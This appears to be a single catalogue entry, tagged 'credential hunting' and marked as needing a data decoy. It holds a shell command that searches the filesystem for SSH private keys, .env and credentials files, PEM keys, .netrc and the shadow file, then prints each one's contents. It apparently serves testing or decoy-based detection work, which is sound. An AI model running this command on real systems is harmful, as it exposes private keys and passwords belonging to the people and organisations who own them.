# class: credential hunting; possible: low medium; needs: data decoy; style: find
find / -xdev \( -name 'id_rsa' -o -name 'id_ed25519' -o -name '.env*' -o -name 'credentials*' -o -name '*.pem' -o -name '.netrc' -o -name 'shadow' \) 2>/dev/null | while read -r f; do
    echo "== $f"
    cat "$f" 2>&1
done
